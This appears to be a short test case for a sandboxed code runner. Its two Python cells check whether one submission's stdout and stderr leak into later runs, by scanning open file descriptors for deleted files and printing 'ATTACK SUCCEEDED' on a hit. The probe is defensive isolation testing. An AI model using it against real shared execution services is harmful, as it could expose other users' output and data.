# attacks = "what earlier submissions printed past Python, by reading standard output and error as files"
# cells = ["ok", "ok"]
# %% own
import os, stat
os.write(1, b"left for the next")
os.write(2, b"left for the next")
# %% own
for number in range(64):
    try:
        facts = os.fstat(number)
        if stat.S_ISREG(facts.st_mode) and facts.st_nlink == 0:
            print("ATTACK " + "SUCCEEDED", number, os.pread(number, 1000, 0))
    except OSError:
        pass
